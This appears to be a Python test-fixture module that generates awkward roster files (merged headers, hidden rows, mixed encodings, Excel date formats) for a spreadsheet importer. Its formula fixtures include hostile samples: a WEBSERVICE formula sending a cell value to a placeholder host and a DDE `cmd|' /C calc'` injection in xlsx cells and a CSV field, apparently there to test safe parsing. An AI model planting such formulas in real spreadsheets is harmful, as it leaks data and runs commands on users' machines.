"""More rosters as they come, one trouble each; what must be read of them stands in `expected.py`."""

from __future__ import annotations

from datetime import date, datetime
from typing import Any

import openpyxl
import xlwt

from tests.exchange.making import PLAIN, Ods, altered, csv, docx, html, ods, resident_id, saved, xls, xlsx

HEAD = ["姓名", "性别", "出生年月", "工作单位"]
SUN, ZHOU = ["孙志远", "男", "1965-03", "燕山大学"], ["周晓梅", "女", "1970-05", "清河医院"]
WU = ["吴天明", "男", "1980", "燕山大学"]


def three_deep() -> bytes:
    """A header of three rows, merged across and down."""
    rows = [
        ["姓名", "证件", "", "联系", "", ""],
        ["", "类型", "号码", "电话", "", "邮箱"],
        ["", "", "", "手机", "办公电话", ""],
        ["孙志远", "身份证", resident_id("19650312"), "13800138000", "010-62751234", "a@b.cn"],
    ]
    areas = ("A1:A3", "B1:C1", "D1:F1", "B2:B3", "C2:C3", "D2:E2", "F2:F3")
    return xlsx(rows, lambda sheet: [sheet.merge_cells(area) for area in areas])


def posts_as_groups() -> bytes:
    """A council list: posts as headings of groups, each with its number of people."""
    rows = [
        ["第三届理事会名单"],
        ["序号", "姓名", "工作单位"],
        ["一、理事长（1人）"],
        [1, "孙志远", "燕山大学"],
        ["二、副理事长（2 人）"],
        [2, "周晓梅", "清河医院"],
        [3, "吴天明", "燕山大学"],
        ["三、本名单经理事会审议通过"],
    ]
    return xlsx(rows, lambda sheet: [sheet.merge_cells(f"A{row}:C{row}") for row in (1, 3, 5, 8)])


def employers_as_groups() -> bytes:
    """Organisations as headings, in a CSV where no merging is left."""
    rows = [
        ["姓名", "性别"],
        ["燕山大学（2人）", ""],
        ["孙志远", "男"],
        ["吴天明", "男"],
        ["小计：2人", ""],
        ["清河医院（1人）", ""],
        ["周晓梅", "女"],
        ["合 计", "3"],
    ]
    return csv(rows, "utf-8")


def nested_groups() -> bytes:
    """Branches, and organisations inside them."""
    rows = [
        ["姓名", "性别"],
        ["一、人工智能专业委员会", ""],
        ["（一）燕山大学", ""],
        ["孙志远", "男"],
        ["（二）清河医院", ""],
        ["周晓梅", "女"],
        ["二、量子计算专业委员会", ""],
        ["吴天明", "男"],
    ]
    return xlsx(rows)


def nameless_merged() -> bytes:
    """Organisations merged down in a column that has no heading."""
    rows = [
        ["", "姓名", "性别"],
        ["燕山大学", *SUN[:2]],
        ["", *WU[:2]],
        ["清河医院", *ZHOU[:2]],
        ["", "郑文", "男"],
    ]
    return xlsx(rows, lambda sheet: [sheet.merge_cells(area) for area in ("A2:A3", "A4:A5")])


def numbered_names() -> bytes:
    """1、孙志远 is a person, not the heading of a group."""
    return "姓名\n1、孙志远\n2、周晓梅\n".encode()


def signed() -> bytes:
    """What stands below a table."""
    rows = [
        HEAD,
        SUN,
        ["共计：1 人"],
        ["其中：女 0 人"],
        ["以上信息真实有效，由本人核对无误，如有变动将在十个工作日内报告秘书处。"],
        ["理事长签字：", "", "2026年 月 日"],
    ]
    return xlsx(rows)


def second_table() -> bytes:
    """Another table below, its columns in another order."""
    rows = [["姓名", "电话"], ["孙志远", "13800138000"], [], ["电话", "姓名"], ["13900139000", "周晓梅"]]
    return xlsx(rows)


def two_halves() -> bytes:
    """The same headings side by side, to save paper."""
    return xlsx([["姓名", "性别", "姓名", "性别"], [*SUN[:2], *ZHOU[:2]]])


def hidden_parts() -> bytes:
    """Hidden rows and a hidden column."""

    def hide(sheet: Any) -> None:
        for row in (2, 3):
            sheet.row_dimensions[row].hidden = True
        sheet.column_dimensions["C"].hidden = True

    return xlsx([HEAD, SUN, ZHOU, WU], hide)


def months() -> bytes:
    """What Excel makes of 1965年3月: the first of the month, shown without its day."""

    def show(sheet: Any) -> None:
        for place, code in (("B2", 'yyyy"年"m"月"'), ("B3", "mmm-yy"), ("B4", "yyyy-mm-dd"), ("B5", "yyyy")):
            sheet[place].number_format = code

    days = [date(1965, 3, 1), date(1970, 5, 1), date(1980, 6, 1), date(1990, 1, 1)]
    names = ["孙志远", "周晓梅", "吴天明", "郑文"]
    return xlsx([["姓名", "出生日期"], *map(list, zip(names, days, strict=True))], show)


def old_months() -> bytes:
    """The same in the old binary form."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("会员")
    for column, word in enumerate(["姓名", "出生日期"]):
        sheet.write(0, column, word)
    sheet.write(1, 0, "孙志远")
    sheet.write(1, 1, datetime.fromisoformat("1965-03-01"), xlwt.easyxf(num_format_str='yyyy"年"m"月"'))
    sheet.write(2, 0, "周晓梅")
    sheet.write(2, 1, datetime.fromisoformat("1970-05-01"), xlwt.easyxf(num_format_str="yyyy-mm-dd"))
    return saved(book)


def old_and_hidden() -> bytes:
    """Errors, hidden rows, a hidden column and merged cells of an `.xls`."""
    book = xlwt.Workbook()
    sheet = book.add_sheet("会员")
    rows = [["单位", "姓名", "电话"], ["燕山大学", "孙志远", ""], ["", "周晓梅", "13900139000"]]
    for number, row in enumerate(rows):
        for column, value in enumerate(row):
            if (number, column) != (1, 2) and value:
                sheet.write(number, column, value)
    sheet.merge(1, 2, 0, 0)
    sheet.row(1).set_cell_error(2, 0x2A)
    sheet.row(2).hidden = True
    sheet.col(2).hidden = True
    return saved(book)


def formulas() -> bytes:
    """Formulas that reach out, that failed, and that are well."""
    rows = [["姓名", "备注"], ["孙志远", "x"], ["周晓梅", "x"], ["吴天明", "x"], ["郑文", "x"]]
    cells = [
        '<c r="B2" t="str"><f>WEBSERVICE("http://a.example/"&amp;A2)</f><v>好</v></c>',
        '<c r="B3" t="str"><f>cmd|\' /C calc\'!A0</f><v>好</v></c>',
        '<c r="B4" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
        '<c r="B5" t="str"><f>HYPERLINK("http://a.example","资深")</f><v>资深</v></c>',
    ]

    def change(name: str, content: bytes) -> bytes:
        if name != "xl/worksheets/sheet1.xml":
            return content
        for number, cell in enumerate(cells, 2):
            start = content.index(f'<c r="B{number}"'.encode())
            content = content[:start] + cell.encode() + content[content.index(b"</c>", start) + 4 :]
        return content

    return altered(xlsx(rows), change)


def typed_formulas() -> bytes:
    """Formulas in a text file, which has no results; ="007" is Excel's way to keep a text."""
    rows = [
        "姓名,会员编号,备注",
        '孙志远,"=""007""",=1+1',
        "周晓梅,B2,=cmd|' /C calc'!A0",
        "吴天明,B3,+86 是区号",
    ]
    return "\n".join(rows).encode()


def open_document() -> bytes:
    """An `.ods` with merged-down employers, a month, an error and what is hidden."""
    rows = [
        ["工作单位", "姓名", "出生日期", "备注"],
        [
            Ods("燕山大学", valuetype="string", numberrowsspanned=2),
            "孙志远",
            Ods("1965年3月", valuetype="date", datevalue="1965-03-01"),
            "",
        ],
        [None, "周晓梅", Ods("1970-05-01", valuetype="date", datevalue="1970-05-01"), ""],
        ["清河医院", "吴天明", "", Ods("#N/A", valuetype="string", formula="of:=NA()")],
    ]
    return ods(rows, hidden_rows=[3], hidden_columns=[2])


def repeated_cells() -> bytes:
    """An `.ods` whose empty cells and rows are repeated to the end of the sheet."""
    rows = [["姓名", "电话"], ["孙志远", "13800138000"]]

    def change(name: str, content: bytes) -> bytes:
        tail = (
            b'<table:table-row table:number-rows-repeated="1048574">'
            b'<table:table-cell table:number-columns-repeated="16384"/></table:table-row></table:table>'
        )
        return content.replace(b"</table:table>", tail) if name == "content.xml" else content

    return altered(ods(rows), change)


def formatted_to_the_end() -> bytes:
    """Formats, not values, down to the last row: WPS leaves them everywhere."""

    def paint(sheet: Any) -> None:
        for row, column in ((1_048_576, 1), (2, 16_384)):
            sheet.cell(row, column).font = openpyxl.styles.Font(bold=True)

    return xlsx(PLAIN, paint)


def word() -> bytes:
    """A council list in Word, employers merged down."""
    rows = [
        ["单位", "姓名", "职务"],
        ["燕山大学", "孙志远", "校长"],
        ["", "吴天明", ""],
        ["清河医院", "周晓梅", "院长"],
    ]
    return docx(rows, lambda table: table.cell(1, 0).merge(table.cell(2, 0)))


def page() -> bytes:
    """What many systems call `.xls`: a web page, here in GB18030 as it says nowhere."""
    rows = [["姓　名", "电话<br>（手机）"], ["孙志远", "13800138000"], ["周晓梅&nbsp;", "<b>139</b>00139000"]]
    return html(rows, "th").encode("gb18030")


def spanned_page() -> bytes:
    """Cells over several rows and columns, a hidden row, a table inside a cell."""
    return (
        "<table><tr><th rowspan=2>姓名<th colspan=2>联系方式</tr><tr><th>电话<th>邮箱</tr>"
        "<tr><td>孙志远<td>13800138000<td><table><tr><td>a@b.cn</table></tr>"
        "<tr style='display:none'><td>周晓梅<td>13900139000<td></tr></table>"
    ).encode()


def mixed_text() -> bytes:
    """全角, blanks, zero-width characters, and letters that look alike."""
    rows = [
        ["姓 名", "联系电话", "职称", "学历/学位", "会员编号", "邮政编码"],
        ["孙\u3000远", "＋８６ １３８００１３８０００", "教授级高工", "研究生/博士", "Ｂ００１", 100871.0],
        ["\u200b周 晓梅 ", "010-62751234转801", "正高级工程师（Ⅱ级）", "本科", "B002", "１００８７１"],
    ]
    return xlsx(rows)


def latin_names() -> bytes:
    rows = [
        ["姓名", "外文姓名", "国籍"],
        ["Ｌｅｅ　Ａｎｎａ", "Lee, Anna", "英国"],
        ["José Núñez", "", "西班牙"],
    ]
    return csv(rows, "utf-16-le", "\t")


def traditional(encoding: str) -> bytes:
    rows = [
        ["姓名", "性別", "出生年月", "工作單位"],
        ["陳大文", "男", "1965-03", "香港大學"],
        ["李國華", "女", "1970年5月", "香港中文大學"],
    ]
    return csv(rows, encoding)


def mere_numbers() -> bytes:
    """Numbers where texts belong, from a sheet that knew no better."""
    rows = [
        ["会员编号", "姓名", "联系电话", "出生年月", "身份证号"],
        [1001, "孙志远", 13800138000, 1965.03, 1.10108196503e17],
        [1002.0, "周晓梅", "13900139000.0", 25000, resident_id("19680611")],
    ]
    return xlsx(rows)


def old_binary() -> bytes:
    """The old form with dates as dates and a number."""
    return xls([["会员编号", *HEAD], [7, *SUN], [8, "周晓梅", "女", date(1970, 5, 6), "清河医院"]])


def in_the_middle() -> bytes:
    """A table that begins neither in the first column nor in the first row."""
    return xlsx([[], [], ["", "", "名册"], ["", "", *HEAD], ["", "", *SUN], [], ["", "", *ZHOU]])
